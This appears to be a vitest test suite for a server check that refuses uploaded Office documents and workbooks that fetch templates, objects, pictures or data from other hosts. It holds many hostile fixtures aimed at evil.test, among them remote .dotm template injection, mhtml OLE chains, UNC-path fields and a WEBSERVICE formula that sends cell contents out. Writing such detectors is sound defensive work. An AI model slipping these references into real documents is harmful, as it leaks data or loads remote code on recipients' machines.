import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { judgeOffice } from '../../server/file/office.ts'
import { openTestApplication, type TestApplication } from '../support/application.ts'
import { compound, DOCX, XLSX, zip } from '../support/files.ts'

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const relation = (type: string, target: string, isElsewhere = true) =>
  `<Relationship Id="r" Type="${OFFICE}/${type}" Target="${target}"${isElsewhere ? ' TargetMode="External"' : ''}/>`
const relations = (...all: readonly string[]) => `<Relationships>${all.join('')}</Relationships>`

const word = (parts: Readonly<Record<string, string | Buffer>>) => judgeOffice(zip({ ...DOCX, ...parts }), 'docx')
const book = (parts: Readonly<Record<string, string | Buffer>>) => judgeOffice(zip({ ...XLSX, ...parts }), 'xlsx')
const wordThat = (...all: readonly string[]) => word({ 'word/_rels/document.xml.rels': relations(...all) })
const bookThat = (...all: readonly string[]) =>
  book({ 'xl/externalLinks/_rels/externalLink1.xml.rels': relations(...all) })
const text = (inside: string) => word({ 'word/document.xml': `<w:document>${inside}</w:document>` })
const sheet = (inside: string) => book({ 'xl/worksheets/sheet1.xml': `<worksheet><c r="A1">${inside}</c></worksheet>` })
const field = (...codes: readonly string[]) =>
  `<w:fldChar w:fldCharType="begin"/>${codes
    .map(one => (one.startsWith('<') ? one : `<w:instrText xml:space="preserve">${one}</w:instrText>`))
    .join('')}<w:fldChar w:fldCharType="separate"/><w:t>1</w:t><w:fldChar w:fldCharType="end"/>`

const OF_THE_WEB = ['http://evil.test/a.xlsx', 'https://evil.test/a', ' &#104;ttp://evil.test/a']
const OF_ANOTHER_MACHINE = [
  'ftp://evil.test/a',
  'file://evil.test/a.png',
  'file:////evil.test/a.png',
  'file://///evil.test/share/a.xlsx',
  '\\\\evil.test\\a.png',
  '%5C%5Cevil.test\\a.png',
  '//evil.test/a.png',
]
const OWN = ['rates.xlsx', '../rates.xlsx', 'folder/Курсы%202026.xlsx', 'file:///C:/rates.xlsx', 'C:\\a\\rates.xlsx']

describe('what a document takes from elsewhere without being asked is refused:', () => {
  const template = (mode: string) =>
    relations(relation('attachedTemplate', 'https://evil.test/a.dotm', false).replace('/>', `${mode}/>`))
  test.each([
    ['in double quotes', template(' TargetMode="External"')],
    ['in single quotes', template(' TargetMode="External"').replaceAll('"', "'")],
    ['in UTF-16', Buffer.from(template(' TargetMode="External"'), 'utf16le')],
  ])('a template, named %s', async (_, rels) => {
    expect(await word({ 'word/_rels/settings.xml.rels': rels })).toBe('template')
  })

  test.each<[string, string]>([
    ['an object', relation('oleObject', 'https://evil.test/a.html')],
    ['an object by a chain of programs', relation('oleObject', 'mhtml:https://evil.test/a!x-usc:https://evil.test/a')],
    ['a picture by a chain of programs', relation('image', 'mhtml:https://evil.test/a')],
    ['a frame', relation('frame', 'https://evil.test/a.html')],
    ['a part of the document', relation('subDocument', 'https://evil.test/a.docx')],
    ['the addresses of a letter', relation('mailMergeSource', 'file://evil.test/a.mdb')],
    ...OF_ANOTHER_MACHINE.map(place => [`a picture at ${place}`, relation('image', place)] satisfies [string, string]),
    ...['page.html', 'page.MHT', 'afchunk.xhtml'].map(
      page => [`what a page of the web names (${page})`, relation('aFChunk', page, false)] satisfies [string, string],
    ),
    ['an object whose place is written in references', relation('oleObject', 'x').replace('External', '&#69;xternal')],
    ['an object behind a reference', relation('oleObject', 'x').replace('Id="r"', 'Id="&#60;"')],
    [
      'a picture that another attribute calls a link',
      relation('image', '//evil.test/a').replace('Id="r"', `Id='Type="x/hyperlink"' x:Type="x/hyperlink"`),
    ],
    ['a picture before a text', `${relation('image', '//evil.test/a')} Type="x/hyperlink"`],
  ])('%s', async (_, named) => {
    expect(await wordThat(named)).toBe('template')
    expect(await bookThat(named)).toBe('template')
  })

  test.each([...OF_THE_WEB, ...OF_ANOTHER_MACHINE])('another workbook at %s', async place => {
    expect(await bookThat(relation('externalLinkPath', place))).toBe('template')
  })

  test.each([
    ['INCLUDEPICTURE', field(' INCLUDEPICTURE "file://evil.test/a.png" \\* MERGEFORMATINET ')],
    ['INCLUDEPICTURE in runs', field('INCLUDE', 'PICTURE', ' "fi', 'le://evil.test/a.png"')],
    ['INCLUDETEXT of another machine', field('INCLUDETEXT "\\\\\\\\evil.test\\\\a.docx"')],
    ['INCLUDETEXT with signs that are kept', field('INCLUDETEXT "\\/\\/evil.test/a.docx"')],
    ['INCLUDEPICTURE whose place a field makes', field('INCLUDEPICTURE "', field('QUOTE 104'), '"')],
    ['LINK', field('LINK Excel.Sheet.12 "\\\\\\\\evil.test\\\\a.xlsx" "A!R1C1" \\a')],
    ['IMPORT', '<w:fldSimple w:instr="IMPORT file://evil.test/a.png"/>'],
    ['RD', field('RD &quot;file://evil.test/a.docx&quot;')],
    ['DATABASE', field('DATABASE \\c "DSN=a" \\s "SELECT 1"')],
  ])('what the field %s names', async (_, inside) => {
    expect(await text(inside)).toBe('template')
    expect(await word({ 'word/header1.xml': `<w:hdr>${inside}</w:hdr>` })).toBe('template')
  })

  test.each([
    ['a picture of a drawing of old', '<v:shape><v:imagedata src="file://evil.test/a.png"/></v:shape>'],
    ['a filling of a drawing of old', `<v:fill src='\\\\evil.test\\a.png' type="frame"/>`],
    ['a database of addresses', '<w:connectString w:val="Provider=SQLOLEDB;Data Source=evil.test"/>'],
    ['an add-in', '<we:reference id="a" store="\\\\evil.test\\share" storeType="Filesystem"/>'],
  ])('%s', async (_, inside) => {
    expect(await text(inside)).toBe('template')
  })

  test.each([
    '_xlfn.WEBSERVICE("http://evil.test/"&amp;A2)',
    'webservice (A1)',
    '1+_xlfn._xlws.IMAGE("http://evil.test/a.png")',
    'MAP(A1:A2,_xleta.WEBSERVICE)',
    'RTD("a.b","evil.test","c")',
    '&#82;TD("a.b",,"c")',
    `'\\\\evil.test\\share\\[a.xlsx]A'!A1`,
    `SUM('https://evil.test/[a.xlsx]A'!A1)`,
  ])('what the formula %s fetches', async formula => {
    expect(await sheet(`<f>${formula}</f>`)).toBe('template')
    expect(await book({ 'xl/a.xml': `<x><definedName name="a">${formula}</definedName></x>` })).toBe('template')
    expect(await sheet(`<x14:cfRule><xm:f>${formula}</xm:f></x14:cfRule>`)).toBe('template')
    expect(await sheet(`<dataValidation><formula1>${formula}</formula1></dataValidation>`)).toBe('template')
  })

  test.each([
    ['a page', '<connection id="1" type="4" refreshOnLoad="1"><webPr url="http://evil.test/x"/></connection>'],
    ['a database', '<connection id="1" type="5"><dbPr connection="Provider=a;Data Source=evil.test"/></connection>'],
    ['a text', '<connection id="1" type="6"><textPr sourceFile="C:\\a.csv"/></connection>'],
    [
      'a feed',
      '<connection id="1" type="101"><x15:dataFeedPr connection="Data Source=http://evil.test"/></connection>',
    ],
    ['a file that describes it', '<connection id="1" type="100" odcFile="\\\\evil.test\\a.odc"/>'],
  ])('what a connection to %s brings', async (_, connection) => {
    expect(await book({ 'xl/connections.xml': `<connections>${connection}</connections>` })).toBe('template')
  })

  test('pictures that a formula has fetched', async () => {
    const fetched = '<webImagesSrd><webImageSrd><address r:id="r"/></webImageSrd></webImagesSrd>'
    expect(await book({ 'xl/richData/rdRichValueWebImage.xml': fetched })).toBe('template')
  })

  test('what a presentation in a document takes', async () => {
    const slides = zip({ 'ppt/slides/_rels/slide1.xml.rels': relations(relation('video', 'https://evil.test/a.mp4')) })
    expect(await word({ 'word/embeddings/a.pptx': slides })).toBe('template')
  })

  test('an object that is only linked', async () => {
    const linked = compound({ '\u0001Ole': Buffer.from('0100000201000000010000000000000000000000', 'hex') })
    expect(await word({ 'word/embeddings/oleObject1.bin': linked })).toBe('template')
  })
})

const record = (type: number, body: Buffer) => {
  const head = Buffer.alloc(4)
  head.writeUInt16LE(type, 0)
  head.writeUInt16LE(body.length, 2)
  return Buffer.concat([head, body])
}
const oldBook = (version: string, ...records: Buffer[]) => {
  const begin = record(0x0809, Buffer.from(version, 'hex'))
  const end = record(0x0a, Buffer.alloc(0))
  return judgeOffice(compound({ Workbook: Buffer.concat([begin, ...records, end, Buffer.alloc(5000)]) }), 'xls')
}
const OF_1997 = '00060500000000000000000000000000'
const OF_1995 = '0005050000000000'
const link = (path: string) =>
  record(0x01ae, Buffer.concat([Buffer.from([1, 0, path.length, 0, 1]), Buffer.from(path, 'utf16le')]))
const oldWord = (inside: string) => {
  const content = [Buffer.from([0xec, 0xa5]), Buffer.alloc(1534), Buffer.from(inside, 'utf16le'), Buffer.alloc(5000)]
  return judgeOffice(compound({ WordDocument: Buffer.concat(content) }), 'doc')
}

describe('an old file that takes from elsewhere', () => {
  test.each([
    '\u0001\u0001@evil.test\u0003a.xls',
    '\u0001\u0005\u0010http://evil.test/a.xls',
    'http://evil.test/a.xls',
    'Excel.Sheet.8\u0003\\\\evil.test\\a.xls',
  ])('what lies at %j is refused', async path => {
    expect(await oldBook(OF_1997, link(path))).toBe('template')
    if (!path.startsWith('E')) expect(await oldBook(OF_1995, record(0x17, Buffer.from(`a${path}`)))).toBe('template')
  })

  test.each([
    ['a query', record(0x00dc, Buffer.alloc(12))],
    ['a connection', record(0x0876, Buffer.alloc(12))],
    ['figures of another program', record(0x0813, Buffer.alloc(12))],
    ['a page by a formula', record(0x23, Buffer.from('000000000000\u0010_xlfn.WEBSERVICE', 'latin1'))],
    ['a picture by a formula', record(0x18, Buffer.from('_xlfn.IMAGE', 'utf16le'))],
  ])('%s, is refused', async (_, named) => {
    expect(await oldBook(OF_1997, named)).toBe('template')
  })

  test('by a field is refused', async () => {
    expect(await oldWord('Где \u0013INCLUDEPICTURE "file://evil.test/a.png"\u00141\u0015')).toBe('template')
  })

  test.each(['a.xls', '\u0001a\u0003b.xls', '\u0001\u0004b.xls', '\u0001\u0001C\u0003a.xls', '\u0001\u0002a.xls'])(
    'but beside it or on one’s own disk, at %j, is taken',
    async path => {
      expect(await oldBook(OF_1997, link(path))).toBe('good')
    },
  )

  test('but only leads there by a click is taken', async () => {
    expect(await oldWord('\u0013HYPERLINK "https://a.ru"\u0014a\u0015 \u0013INCLUDEPICTURE "cid:a"\u00141\u0015')).toBe(
      'good',
    )
  })
})

describe('taken is', () => {
  test('a document with links, pictures of its letter or beside it, and an object of its own', async () => {
    const all = [
      relation('hyperlink', 'https://a.ru/oleObject'),
      relation('hyperlink', 'https://a.ru/attachedTemplate'),
      relation('hyperlink', 'mailto:a@a.ru'),
      relation('hyperlink', 'file:///\\\\server\\a.docx'),
      relation('image', 'cid:image001.png@01D00000.00000000'),
      relation('image', 'logo.png'),
      relation('image', 'NULL'),
      ...OF_THE_WEB.map(place => relation('image', place)),
      relation('image', 'file:///C:/logo.png'),
      relation('attachedTemplate', 'file:///C:\\Users\\Anna\\AppData\\Roaming\\Microsoft\\Templates\\Contract.dotx'),
      relation('image', '/word/media/image1.png', false),
      relation('aFChunk', 'part.docx', false),
      relation('oleObject', 'embeddings/oleObject1.bin', false),
    ]
    expect(await wordThat(...all)).toBe('good')
    expect(await bookThat(...all)).toBe('good')
  })

  test.each(OWN)('a workbook that takes figures from %s', async place => {
    expect(await bookThat(relation('externalLinkPath', place))).toBe('good')
  })

  test.each([
    field(' PAGE '),
    field('HYPERLINK "https://a.ru/import" \\t "_blank"'),
    field('REF link \\h'),
    field('INCLUDEPICTURE "cid:image001.png@01D" \\* MERGEFORMATINET'),
    field('INCLUDEPICTURE  "logo.png" \\d'),
    field('INCLUDEPICTURE "https://a.ru/logo.png" \\* MERGEFORMATINET'),
    field('LINK Excel.Sheet.12 "C:\\\\a.xlsx" "A!R1C1" \\a'),
    field('LINKS "http://a.ru"'),
    '<w:t>INCLUDEPICTURE "http://a.ru"</w:t>',
    '<v:imagedata r:id="rId5" o:title="http://a.ru" o:href="cid:a"/><v:fill color2="#000" type="gradient"/>',
    '<we:reference id="wa104" version="1.0.0.0" store="ru-RU" storeType="OMEX"/>',
  ])('a document with %s', async inside => {
    expect(await text(inside)).toBe('good')
  })

  test.each([
    'SUM(A1:B2)/[1]Sheet1!A1',
    'HYPERLINK("https://a.ru","a")',
    `'C:\\[a.xlsx]A'!A1`,
    'MYIMAGE(1)+A.RTD(2)+image+IMAGES(3)',
    '"IMAGE(1) \'\\\\a\'"&amp;"it\'s RTD("',
    `'IMAGE(1)'!A1+'Jan:Mar 2'!A1/'a'!B1`,
    '_xlfn.XLOOKUP(A1,B:B,C:C)',
  ])('a workbook with the formula %s', async formula => {
    expect(await sheet(`<f>${formula}</f>`)).toBe('good')
  })

  test('a workbook with a model of its own data', async () => {
    const model =
      '<connection id="1" name="ThisWorkbookDataModel" type="5"><dbPr connection="Data Model Connection" command="Model" commandType="1"/><olapPr sendLocale="1"/></connection>'
    expect(await book({ 'xl/connections.xml': `<connections>${model}</connections>` })).toBe('good')
  })

  test('a workbook with a chart', async () => {
    const chart = '<c:chartSpace><c:val><c:numRef><c:f>Trinity!$A$1:$A$3</c:f></c:numRef></c:val></c:chartSpace>'
    expect(await book({ 'xl/charts/chart1.xml': chart })).toBe('good')
  })

  test('a workbook that a library writes, with formulas, links and names', async () => {
    const written = new ExcelJS.Workbook()
    const page = written.addWorksheet('План факт')
    page.addRow([1, { formula: 'SUM(A1:A1)', result: 1 }, { text: 'a', hyperlink: 'https://a.ru/?a=IMAGE(1)' }])
    written.definedNames.add("'План факт'!$A$1", 'first')
    expect(await judgeOffice(Buffer.from(await written.xlsx.writeBuffer()), 'xlsx')).toBe('good')
  })
})

describe('at the door', () => {
  let application: TestApplication
  let token = ''
  beforeAll(async () => {
    application = await openTestApplication()
    token = application.token(await application.addUser())
  })
  afterAll(() => application.close())

  test.each([
    ['document', 'a.docx', zip({ ...DOCX, 'word/_rels/a.xml.rels': relation('image', '//evil.test/a') })],
    ['workbook', 'a.xlsx', zip({ ...XLSX, 'xl/_rels/a.xml.rels': relation('externalLinkPath', 'http://evil.test/a') })],
  ])('a %s is told the same', async (_, name, content) => {
    const file = { name, b64: content.toString('base64') }
    expect((await application.rest(token, 'POST', '/file', { file })).body).toMatchObject({
      fieldErrors: [
        {
          field: 'file',
          defaultMessage:
            'Документ берёт шаблон, картинку, объект или данные с другого компьютера или сайта: уберите такую связь или сохраните документ в PDF',
        },
      ],
    })
  })
})
